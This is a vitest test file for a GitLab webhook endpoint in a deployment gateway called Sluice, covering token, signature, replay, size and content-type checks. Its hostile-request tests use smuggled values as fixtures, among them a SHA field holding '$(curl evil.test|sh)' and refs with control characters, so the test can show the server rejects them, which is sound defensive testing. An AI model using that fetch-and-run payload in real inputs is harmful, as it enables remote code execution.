import { randomBytes } from 'node:crypto';
import { deliveryName, parseDelivery } from '@sluice/delivery';
import { signWebhookPayload } from '@sluice/gitlab';
import { KubeError } from '@sluice/kube';
import { createLogger, Readiness } from '@sluice/service';
import { startTelemetry, type Telemetry } from '@sluice/telemetry';
import { beforeEach, describe, expect, it } from 'vitest';
import { ApplicationStore } from '../applications.js';
import { createGatewayApp } from '../app.js';
import { DeliveryStore, summaryOfDelivery } from '../deliveries.js';
import { application, fakeSha, loadFixture, pushPayload } from '../fixtures/index.js';
import type { IntakeOutcome } from '../intake/act.js';
import { createIntake } from '../intake/intake.js';
import type { IntakePlan } from '../intake/plan.js';
import { createAuthenticator } from './auth.js';
import { createWebhookObserver } from './observe.js';
import { ReplayGuard } from './replay.js';

const TOKEN = 'tok-2026-current';
const OLD_TOKEN = 'tok-2025-previous';
const SIGNING = `whsec_${randomBytes(32).toString('base64')}`;
const NOW = new Date('2026-04-02T09:00:00Z');
const TS = Math.floor(NOW.getTime() / 1000);
const PUBLIC_URL = 'https://sluice.example.test';
const MAX_BODY = 64 * 1024;
const telemetry = startTelemetry({ serviceName: 'gateway-test', serviceVersion: '0', env: {} });
const logger = createLogger({ service: 'gateway-test', level: 'silent' });

/** A meter that counts what the observer records, by metric name and attributes. */
function countingMeter() {
  const counts = new Map<string, number>();
  const bump = (name: string) => (value: number, attrs: Record<string, unknown> = {}) =>
    counts.set(`${name}${JSON.stringify(attrs)}`, (counts.get(`${name}${JSON.stringify(attrs)}`) ?? 0) + value);
  const meter = {
    createCounter: (name: string) => ({ add: bump(name) }),
    createHistogram: (name: string) => ({ record: () => bump(`${name}.count`)(1) }),
    createUpDownCounter: (name: string) => ({ add: bump(name) }),
  } as unknown as Telemetry['meter'];
  return { meter, count: (name: string, attrs: Record<string, unknown>) => counts.get(`${name}${JSON.stringify(attrs)}`) ?? 0 };
}

interface Harness {
  readonly request: (init: SendOptions) => Promise<Response>;
  readonly plans: IntakePlan[];
  readonly deliveries: DeliveryStore;
  readonly count: (name: string, attrs: Record<string, unknown>) => number;
  /** Makes the next apply fail like an unreachable apiserver. */
  failNext(): void;
}

interface SendOptions {
  readonly body?: RequestInit['body'];
  readonly event?: string;
  readonly token?: string | null;
  readonly contentType?: string | null;
  readonly headers?: Record<string, string>;
}

function harness(options: { signed?: boolean } = {}): Harness {
  const applications = new ApplicationStore();
  applications.upsert(application());
  const deliveries = new DeliveryStore();
  const plans: IntakePlan[] = [];
  const { meter, count } = countingMeter();
  let fail = false;
  // A stand-in for applyPlan: HTTP behaviour only. What the cluster does is proven in app.int.test.ts.
  const apply = async (plan: IntakePlan): Promise<IntakeOutcome> => {
    plans.push(plan);
    if (fail) {
      fail = false;
      throw new KubeError('Unavailable', 'connect ECONNREFUSED');
    }
    switch (plan.action) {
      case 'create':
        return { status: 'accepted', delivery: plan.delivery.metadata.name, superseded: plan.supersede, supersedeRequested: [] };
      case 'duplicate':
        return { status: 'duplicate', delivery: plan.delivery };
      case 'cancel':
        return { status: 'ignored', reason: 'ref_deleted', detail: plan.detail, canceled: plan.cancel };
      case 'ignore':
        return { status: 'ignored', reason: plan.reason, detail: plan.detail };
      case 'reject':
        return { status: 'rejected', reason: plan.reason, detail: plan.detail };
    }
  };
  const app = createGatewayApp({
    readiness: new Readiness(),
    webhook: {
      authenticator: createAuthenticator({
        secretTokens: [TOKEN, OLD_TOKEN],
        signingTokens: options.signed ? [SIGNING] : [],
        toleranceSeconds: 300,
        maxBodyBytes: MAX_BODY,
        now: () => NOW,
      }),
      intake: createIntake({ applications, deliveries, namespace: 'sluice-system', apply, now: () => NOW }),
      observer: createWebhookObserver({ meter }),
      tracer: telemetry.tracer,
      logger,
      publicUrl: PUBLIC_URL,
      maxBodyBytes: MAX_BODY,
      toleranceSeconds: 300,
      replay: new ReplayGuard({ now: () => NOW.getTime() }),
    },
  });
  const request = (init: SendOptions) => {
    const headers: Record<string, string> = { ...init.headers };
    if (init.token !== null) headers['x-gitlab-token'] = init.token ?? TOKEN;
    if (init.contentType !== null) headers['content-type'] = init.contentType ?? 'application/json';
    headers['x-gitlab-event'] = init.event ?? 'Push Hook';
    const duplex = init.body instanceof ReadableStream ? { duplex: 'half' } : {};
    return Promise.resolve(app.request('/webhooks/gitlab', { method: 'POST', body: init.body ?? loadFixture('push').raw, headers, ...duplex } as RequestInit));
  };
  return { request, plans, deliveries, count, failNext: () => (fail = true) };
}

function signedHeaders(body: Uint8Array | string, id = `msg_${randomBytes(8).toString('hex')}`, timestamp = TS): Record<string, string> {
  return {
    'webhook-id': id,
    'webhook-timestamp': String(timestamp),
    'webhook-signature': signWebhookPayload({ signingToken: SIGNING, webhookId: id, timestamp, body }),
    'idempotency-key': id,
  };
}

describe('POST /webhooks/gitlab: accepted', () => {
  let h: Harness;
  beforeEach(() => (h = harness()));

  it('answers 202 with the Delivery name and its run-page link once the plan is applied', async () => {
    const res = await h.request({});
    const json = loadFixture('push').json;
    const name = deliveryName({ project: 7781, ref: 'refs/heads/trunk', sha: json['checkout_sha'] as string });
    expect(res.status).toBe(202);
    expect(await res.json()).toEqual({ status: 'accepted', delivery: name, url: `${PUBLIC_URL}/deliveries/${name}`, superseded: [], supersedeRequested: [] });
    expect(h.plans).toHaveLength(1);
    expect(h.count('sluice.webhook.requests', { 'sluice.webhook.outcome': 'accepted' })).toBe(1);
  });

  it('accepts the previous token during a rotation', async () => {
    expect((await h.request({ token: OLD_TOKEN })).status).toBe(202);
  });

  it('echoes a sane X-Request-Id and stores it on the Delivery; generates one otherwise', async () => {
    const given = await h.request({ headers: { 'x-request-id': 'gl-req-42' } });
    expect(given.headers.get('x-request-id')).toBe('gl-req-42');
    const plan = h.plans[0];
    expect(plan?.action === 'create' && plan.delivery.metadata.annotations['sluice.dev/request-id']).toBe('gl-req-42');
    const hostile = await h.request({ headers: { 'x-request-id': 'bad id; $(with spaces)' } });
    expect(hostile.headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/);
    expect((await h.request({ token: 'wrong' })).headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/);
  });

  it('accepts a content type with a charset parameter', async () => {
    expect((await h.request({ contentType: 'application/json; charset=utf-8' })).status).toBe(202);
  });

  it('answers a push it already has with 200 duplicate and the existing Delivery', async () => {
    const first = await h.request({});
    const plan = h.plans[0];
    if (plan?.action !== 'create') throw new Error('expected a create plan');
    const stored = parseDelivery(plan.delivery);
    if (!stored.ok) throw stored.error;
    h.deliveries.upsert(summaryOfDelivery(stored.value));
    const again = await h.request({});
    const { delivery } = (await first.json()) as { delivery: string };
    expect(again.status).toBe(200);
    expect(await again.json()).toEqual({ status: 'duplicate', delivery, url: `${PUBLIC_URL}/deliveries/${delivery}` });
  });

  it('answers 503 and acknowledges nothing when the cluster cannot be reached', async () => {
    h.failNext();
    const res = await h.request({});
    expect(res.status).toBe(503);
    expect(await res.json()).toEqual({ status: 'error', reason: 'unavailable' });
  });
});

describe('POST /webhooks/gitlab: ignored with a 2xx, so GitLab keeps the hook', () => {
  let h: Harness;
  beforeEach(() => (h = harness()));

  it.each([
    ['an event Sluice does not handle', { event: 'Note Hook', body: loadFixture('note-hook').raw }, 'unknown_event'],
    ['a project without an Application', { body: JSON.stringify({ ...loadFixture('push').json, project: { ...(loadFixture('push').json['project'] as object), id: 1, path_with_namespace: 'other/app' } }) }, 'no_application'],
    ['a branch no rule delivers', { body: JSON.stringify(pushPayload('experiments/x', fakeSha(1), fakeSha(2))) }, 'no_matching_rule'],
    ['a merge request edit without new commits', { event: 'Merge Request Hook', body: loadFixture('merge-request-update-title').raw }, 'no_new_commits'],
    ['a deleted branch with nothing running', { body: loadFixture('push-branch-deleted').raw }, 'ref_deleted'],
  ] as const)('%s', async (_, init, reason) => {
    const res = await h.request(init);
    expect(res.status).toBe(200);
    expect(await res.json()).toMatchObject({ status: 'ignored', reason, detail: expect.any(String) });
  });
});

describe('POST /webhooks/gitlab: hostile requests', () => {
  let h: Harness;
  beforeEach(() => (h = harness()));

  async function expectRejected(res: Response, status: number, reason: string): Promise<Record<string, unknown>> {
    expect(res.status).toBe(status);
    const body = (await res.json()) as Record<string, unknown>;
    expect(body).toMatchObject({ status: 'rejected', reason });
    expect(h.count('sluice.webhook.rejections', { 'error.type': reason })).toBeGreaterThan(0);
    expect(h.plans).toHaveLength(0);
    return body;
  }

  it.each([
    ['a wrong token', 'nope'],
    ['a prefix of the real token', TOKEN.slice(0, -1)],
    ['the real token with a suffix', `${TOKEN}x`],
    ['an empty token', ''],
  ])('refuses %s with 401 bad_token and no detail', async (_, token) => {
    const body = await expectRejected(await h.request({ token }), 401, 'bad_token');
    expect(body['detail']).toBeUndefined();
    expect(JSON.stringify(body)).not.toContain(TOKEN);
  });

  it('refuses a missing token', async () => {
    await expectRejected(await h.request({ token: null }), 401, 'bad_token');
  });

  it('refuses a bad token before reading a byte of the body', async () => {
    let pulls = 0;
    const body = new ReadableStream<Uint8Array>({ pull: (c) => void (pulls++, c.enqueue(new Uint8Array(1024))) }, { highWaterMark: 0 });
    await expectRejected(await h.request({ token: 'nope', body }), 401, 'bad_token');
    expect(pulls).toBe(0);
  });

  it.each([
    ['text/plain', 'text/plain'],
    ['form data', 'application/x-www-form-urlencoded'],
    ['a look-alike', 'application/jsonp'],
  ])('refuses %s with 415', async (_, contentType) => {
    await expectRejected(await h.request({ contentType }), 415, 'unsupported_media_type');
  });

  it('refuses a missing content type with 415', async () => {
    await expectRejected(await h.request({ contentType: null }), 415, 'unsupported_media_type');
  });

  it('refuses an oversized body with 413, declared or streamed', async () => {
    await expectRejected(await h.request({ body: 'x'.repeat(MAX_BODY + 1) }), 413, 'too_large');
    const endless = new ReadableStream<Uint8Array>({ pull: (c) => c.enqueue(new Uint8Array(16 * 1024).fill(32)) }, { highWaterMark: 0 });
    await expectRejected(await h.request({ body: endless }), 413, 'too_large');
  });

  it('refuses a truncated body as malformed', async () => {
    const raw = loadFixture('push').raw;
    await expectRejected(await h.request({ body: raw.subarray(0, raw.length / 2) }), 400, 'malformed');
  });

  it.each([
    ['not JSON', '{"object_kind": push}'],
    ['empty', ''],
    ['invalid UTF-8', Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d])],
  ])('refuses a body that is %s with 400 malformed', async (_, body) => {
    await expectRejected(await h.request({ body }), 400, 'malformed');
  });

  it.each([
    ['a short SHA', { checkout_sha: 'a84774805e' }],
    ['a SHA with a shell payload', { after: '$(curl evil.test|sh)aaaaaaaaaaaaaaaaaaaaaaa' }],
    ['a ref Git forbids', { ref: 'refs/heads/main..evil' }],
    ['a ref with control characters', { ref: 'refs/heads/ma\u0000in' }],
    ['a ref that is not a branch', { ref: 'refs/remotes/origin/main' }],
  ])('refuses %s with 400 malformed, saying which field', async (_, change) => {
    const body = await expectRejected(await h.request({ body: JSON.stringify({ ...loadFixture('push').json, ...change }) }), 400, 'malformed');
    expect(body['detail']).toEqual(expect.any(String));
  });

  it('refuses a push without an event header as malformed', async () => {
    const res = await h.request({ event: '' });
    await expectRejected(res, 400, 'malformed');
  });
});

describe('POST /webhooks/gitlab: signed webhooks', () => {
  let h: Harness;
  const raw = loadFixture('push').raw;
  beforeEach(() => (h = harness({ signed: true })));

  it('accepts a valid signature', async () => {
    expect((await h.request({ body: raw, headers: signedHeaders(raw) })).status).toBe(202);
  });

  it('refuses a valid token without a signature', async () => {
    const res = await h.request({ body: raw });
    expect(res.status).toBe(401);
    expect(await res.json()).toEqual({ status: 'rejected', reason: 'bad_signature' });
  });

  it('refuses a body changed after signing', async () => {
    const tampered = Buffer.from(raw.toString('utf8').replace('refs/heads/trunk', 'refs/heads/prod!'));
    const res = await h.request({ body: tampered, headers: signedHeaders(raw) });
    expect(res.status).toBe(401);
    expect(await res.json()).toMatchObject({ reason: 'bad_signature' });
  });

  it('refuses an authentic but stale or future timestamp', async () => {
    for (const timestamp of [TS - 301, TS + 301]) {
      const res = await h.request({ body: raw, headers: signedHeaders(raw, undefined, timestamp) });
      expect(res.status).toBe(401);
      expect(await res.json()).toMatchObject({ reason: 'stale_timestamp' });
    }
    expect(h.count('sluice.webhook.rejections', { 'error.type': 'stale_timestamp' })).toBe(2);
  });

  it('refuses the same signed message sent again as a replay', async () => {
    const headers = signedHeaders(raw, 'msg_replayed');
    expect((await h.request({ body: raw, headers })).status).toBe(202);
    const replayed = await h.request({ body: raw, headers });
    expect(replayed.status).toBe(409);
    expect(await replayed.json()).toEqual({ status: 'rejected', reason: 'replay' });
    expect(h.count('sluice.webhook.rejections', { 'error.type': 'replay' })).toBe(1);
  });

  it('lets a message that failed before it was acknowledged be sent again', async () => {
    const headers = signedHeaders(raw, 'msg_retry');
    h.failNext();
    expect((await h.request({ body: raw, headers })).status).toBe(503);
    expect((await h.request({ body: raw, headers })).status).toBe(202);
  });
});

describe('POST /webhooks/gitlab: branch deletion', () => {
  it('reports the Deliveries it canceled', async () => {
    const h = harness();
    const branch = 'release/2026.04/rc-1';
    const created = await h.request({ body: JSON.stringify(pushPayload(branch, fakeSha(0), fakeSha(1))), headers: { 'idempotency-key': 'k-1' } });
    expect(created.status).toBe(202);
    const plan = h.plans[0];
    if (plan?.action !== 'create') throw new Error('expected a create plan');
    const stored = parseDelivery(plan.delivery);
    if (!stored.ok) throw stored.error;
    h.deliveries.upsert(summaryOfDelivery(stored.value));
    const res = await h.request({ body: loadFixture('push-branch-deleted').raw });
    expect(res.status).toBe(200);
    expect(await res.json()).toMatchObject({ status: 'ignored', reason: 'ref_deleted', canceled: [plan.delivery.metadata.name] });
  });
});
